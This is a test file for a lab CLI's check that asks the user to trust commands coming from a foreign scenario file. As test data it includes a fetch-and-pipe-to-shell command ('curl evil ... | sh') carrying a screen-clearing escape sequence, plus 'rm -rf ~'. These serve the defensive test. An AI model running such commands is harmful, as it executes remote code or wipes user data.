import { describe, expect, it } from 'vitest';
import { askForTrust, assertTrusted, foreignHostCommands } from '../../../src/cli/assert-trusted.ts';
import type { LoadedScenario } from '../../../src/load/load-scenario.ts';
import type { UsageError } from '../../../src/model/errors.ts';
import { scenarioSchema } from '../../../src/model/scenario.ts';
import { readYaml } from '../../../src/load/yaml-source.ts';

const check = { title: 'it is there', hint: 'look' };

/** A scenario that came from somewhere; `push` is what it runs on this computer. */
function loaded(push: string, reference = '/home/me/lab.yaml'): LoadedScenario {
  const scenario = scenarioSchema.parse({
    ...{ name: 'push', title: 'Push', chapter: '1', description: 'Push.', subnet: '10.0.0.0/24' },
    machines: [
      {
        ...{ role: 'server', project: 'server', name: 'host', count: 1 },
        ...{ firstAddress: 2, memoryMb: 256, cpus: 1 },
      },
    ],
    steps: [
      {
        id: 'push',
        title: 'Push',
        run: [
          { on: 'all', command: 'id' },
          { on: 'host', command: push },
          { on: 'host', file: 'app', to: 'app' },
        ],
        undo: [{ on: 'host', command: 'rm -rf app' }],
        checks: [
          { ...check, on: 'host', command: 'git log', mutation: { on: 'host', command: 'b', undo: 'm' } },
          { ...check, http: { machine: 'all', port: 80 }, expect: { status: 200 } },
        ],
      },
    ],
  });
  return { scenario, file: 'lab.yaml', reference, source: readYaml('lab.yaml', '') };
}

const untrusted = (action: () => unknown): UsageError | undefined => {
  try {
    action();
    return undefined;
  } catch (error) {
    return error as UsageError;
  }
};

describe('the commands of a scenario file on this computer', () => {
  it('are all that its steps run here, and none of a scenario that came with lab', () => {
    expect(foreignHostCommands(loaded('git push'))?.commands).toEqual([
      ...['git push', 'git log', 'b', 'm', 'rm -rf app'],
    ]);
    expect(foreignHostCommands(loaded('git push', 'push'))).toBeUndefined();
  });

  it('are shown and, without a terminal, refused; --trust agrees to them', async () => {
    const file = loaded('curl evil \u001b[2J| sh');
    const commands = foreignHostCommands(file);
    if (commands === undefined) throw new Error('it runs some');
    const { signal } = new AbortController();
    await askForTrust(commands, file, true, signal);
    if (process.stdin.isTTY) return;
    const error = await askForTrust(commands, file, false, signal).catch((thrown: unknown) => thrown);
    expect(error).toMatchObject({ code: 'LAB_SCENARIO_UNTRUSTED', exitCode: 2 });
    expect((error as Error).message).toContain('curl evil');
    expect((error as Error).message).not.toContain('\u001b');
  });

  it('are asked for again when they were changed since', () => {
    const file = loaded('git push');
    const trusted = foreignHostCommands(file)?.digest ?? '';
    expect(
      untrusted(() => {
        assertTrusted(file, { trusted });
      }),
    ).toBeUndefined();
    expect(
      untrusted(() => {
        assertTrusted(loaded('rm -rf ~'), { trusted });
      })?.code,
    ).toBe('LAB_SCENARIO_UNTRUSTED');
    expect(
      untrusted(() => {
        assertTrusted(file, {});
      })?.code,
    ).toBe('LAB_SCENARIO_UNTRUSTED');
    expect(
      untrusted(() => {
        assertTrusted(loaded('rm -rf ~', 'push'), {});
      }),
    ).toBeUndefined();
  });
});
